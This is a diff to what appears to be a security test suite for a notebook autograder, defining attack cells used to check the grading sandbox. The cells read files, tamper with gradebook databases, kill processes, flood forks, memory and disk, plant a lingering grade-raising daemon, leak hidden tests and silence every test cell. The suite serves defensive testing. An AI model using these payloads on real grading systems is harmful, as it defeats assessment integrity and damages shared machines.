@@ -6,6 +6,7 @@ Every attack first names its kernel (and every process it starts) with the suite
 ``prctl(PR_SET_NAME)``, so the test can find anything that outlives grading, prints
 ``ATTACK-RAN <name>`` (proof that it ran), and prints what it achieved as ``RESULT <json>``.
 """
+
 from __future__ import annotations
 
 import copy
@@ -17,7 +18,7 @@ from nbformat.v4 import new_code_cell
 from tinytorch_course.authoring.reference import nbgrader_meta, reference_submission
 
 # Every attack starts with this: the trigger, the process naming and the report helper.
-PRELUDE = '''
+PRELUDE = """
 import os
 if os.environ.get("NBGRADER_EXECUTION"):
     import ctypes, json, sys
@@ -27,18 +28,18 @@ if os.environ.get("NBGRADER_EXECUTION"):
         print("RESULT " + json.dumps(found), flush=True)
     _mark()
     print("ATTACK-RAN {name}", flush=True)
-'''
+"""
 
-SOLUTION_IMPORT = '''
+SOLUTION_IMPORT = """
 try:
     from tinytorch.olympics import (BenchmarkReport, SimpleMLP, generate_submission,
                                     submission_errors, validate_submission_schema)
     _report(imported=True)
 except Exception as err:
     _report(imported=False, error=type(err).__name__)
-'''
+"""
 
-READ_FILES = '''
+READ_FILES = """
 import pathlib
 targets = [pathlib.Path(p) for p in {targets!r}]
 here = pathlib.Path.cwd()
@@ -59,11 +60,11 @@ try:
 except OSError:
     listing = None
 _report(found=found, repo_listing=listing)
-'''
+"""
 
 # Writes stay within the suite's own course roots (and what walking up from the working folder
 # reaches), so a broken jail cannot make the suite damage anything else on the machine.
-GRADEBOOK_WRITES = '''
+GRADEBOOK_WRITES = """
 import glob, pathlib, sqlite3
 here = pathlib.Path.cwd()
 bases = [here, *list(here.parents)[:3]] + [pathlib.Path(p) for p in {roots!r}]
@@ -82,9 +83,9 @@ for db in sorted(dbs):
     except Exception:
         pass
 _report(candidates=sorted(dbs), written=written)
-'''
+"""
 
-KILL_PARENT = '''
+KILL_PARENT = """
 import signal, time
 parent = os.getppid()
 _report(parent=parent)
@@ -95,11 +96,11 @@ except OSError as err:
     outcome = type(err).__name__
 time.sleep(1)
 _report(kill=outcome, survived=True)
-'''
+"""
 
 # Refuses to run in the test's own PID namespace: without a jail it would kill every process of
 # the machine the grader may signal. The test then fails on the report instead.
-KILL_ALL = '''
+KILL_ALL = """
 import signal, time
 if os.readlink("/proc/self/ns/pid") == {host_pid_ns!r}:
     _report(refused="not in a PID namespace of its own")
@@ -114,9 +115,9 @@ else:
                 pass
     time.sleep(1)
     _report(signalled=killed, survived=True)
-'''
+"""
 
-FORK_FLOOD = '''
+FORK_FLOOD = """
 import time
 children, error = 0, None
 for _ in range({forks}):
@@ -133,9 +134,9 @@ for _ in range({forks}):
             os._exit(0)
     children += 1
 _report(children=children, error=error)
-'''
+"""
 
-MEMORY_FLOOD = '''
+MEMORY_FLOOD = """
 chunks, error = [], None
 try:
     for _ in range({chunks}):
@@ -144,9 +145,9 @@ except MemoryError:
     error = "MemoryError"
 _report(allocated_mib=64 * len(chunks), error=error)
 del chunks
-'''
+"""
 
-DISK_FLOOD = '''
+DISK_FLOOD = """
 import pathlib
 block, written = b"\\0" * (8 << 20), {{}}
 for folder in (pathlib.Path.cwd(), pathlib.Path("/tmp")):
@@ -161,9 +162,9 @@ for folder in (pathlib.Path.cwd(), pathlib.Path("/tmp")):
         error = type(err).__name__
     written[str(folder)] = [done >> 20, error]
 _report(written_mib=written)
-'''
+"""
 
-NETWORK = '''
+NETWORK = """
 import socket
 outcome = {{}}
 for host in ("127.0.0.1", "localhost"):
@@ -174,11 +175,11 @@ for host in ("127.0.0.1", "localhost"):
     except OSError as err:
         outcome[host] = type(err).__name__
 _report(outcome=outcome)
-'''
+"""
 
 # Double fork: the daemon belongs to no kernel, and for {daemon_s} s keeps trying to raise its
 # own grade in every gradebook it can reach, so it acts after grading has ended too.
-DAEMON = '''
+DAEMON = """
 import glob, pathlib, sqlite3, time
 first = os.fork()
 if first == 0:
@@ -206,9 +207,9 @@ if first == 0:
     os._exit(0)
 os.waitpid(first, 0)
 _report(daemon="started")
-'''
+"""
 
-EXFILTRATE = '''
+EXFILTRATE = """
 import html as _html
 from IPython.display import HTML, JSON, display
 _ip = get_ipython()
@@ -220,36 +221,36 @@ def _leak(result):
     print(repr(_ih[-1]))
 _ip.events.register("post_run_cell", _leak)
 _report(hooks="registered")
-'''
+"""
 
 # A cell of the student's own, last in the notebook: every hidden test has run by then.
-EXFILTRATE_ERROR_CELL = '''import os
+EXFILTRATE_ERROR_CELL = """import os
 if os.environ.get("NBGRADER_EXECUTION"):
     _asserts = [l.strip() for s in In for l in s.splitlines() if l.strip().startswith("assert")]
     raise type(_asserts[-1], (Exception,), {})("\\n".join(In))
-'''
+"""
 
-SLEEP_HOOK = '''
+SLEEP_HOOK = """
 import time
 get_ipython().events.register("pre_run_cell", lambda info: time.sleep({sleep_s}))
 _report(hooks="registered")
-'''
+"""
 
-IGNORE_INTERRUPTS = '''
+IGNORE_INTERRUPTS = """
 import signal
 signal.signal(signal.SIGINT, signal.SIG_IGN)
 _report(looping=True)
 while True:
     pass
-'''
+"""
 
 # Tampering with its own kernel: every later cell (the restored tests included) is rewritten to
 # `pass` before IPython compiles it, so no test can fail. The jail cannot see this; see the
 # threat model in docs/architecture.md.
-NO_OP_TESTS = '''
+NO_OP_TESTS = """
 get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
 _report(tests="silenced")
-'''
+"""
 
 
 @dataclass
@@ -257,8 +258,8 @@ class Attack:
     """One attacker: its attacks (code and the answer cells that get it) on top of a base notebook."""
 
     parts: tuple[tuple[str, tuple[str, ...]], ...]
-    base: str                    # "blank" (the release as is) or "perfect" (reference solutions)
-    prepend: bool = False        # before the answer (a loop stops the cell) instead of after
+    base: str  # "blank" (the release as is) or "perfect" (reference solutions)
+    prepend: bool = False  # before the answer (a loop stops the cell) instead of after
     extra_cell: str | None = None  # a cell of the student's own, appended to the notebook
 
 
@@ -268,16 +269,23 @@ SOLUTION_CELLS = ("simple-mlp", "benchmark-report", "generate-submission", "vali
 # Attacks that only look around and report share one notebook (and the floods another), so the
 # suite grades fewer notebooks; each reports under its own keys.
 ATTACKS = {
-    "h-snoop": Attack(((SOLUTION_IMPORT, SOLUTION_CELLS), (READ_FILES, FIRST),
-                       (GRADEBOOK_WRITES, FIRST), (NETWORK, FIRST), (DAEMON, FIRST)), "blank"),
+    "h-snoop": Attack(
+        (
+            (SOLUTION_IMPORT, SOLUTION_CELLS),
+            (READ_FILES, FIRST),
+            (GRADEBOOK_WRITES, FIRST),
+            (NETWORK, FIRST),
+            (DAEMON, FIRST),
+        ),
+        "blank",
+    ),
     "h-kill-parent": Attack(((KILL_PARENT, FIRST),), "blank"),
     "h-kill-all": Attack(((KILL_ALL, FIRST),), "blank"),
     "h-floods": Attack(((FORK_FLOOD, FIRST), (MEMORY_FLOOD, FIRST), (DISK_FLOOD, FIRST)), "blank"),
     "h-exfiltrate": Attack(((EXFILTRATE, FIRST),), "perfect", extra_cell=EXFILTRATE_ERROR_CELL),
     "h-sleep-hook": Attack(((SLEEP_HOOK, FIRST),), "perfect"),
     "h-no-op-tests": Attack(((NO_OP_TESTS, FIRST),), "blank"),
-    "h-ignore-interrupts": Attack(((IGNORE_INTERRUPTS, ("generate-submission",)),), "perfect",
-                                  prepend=True),
+    "h-ignore-interrupts": Attack(((IGNORE_INTERRUPTS, ("generate-submission",)),), "perfect", prepend=True),
 }
 
 
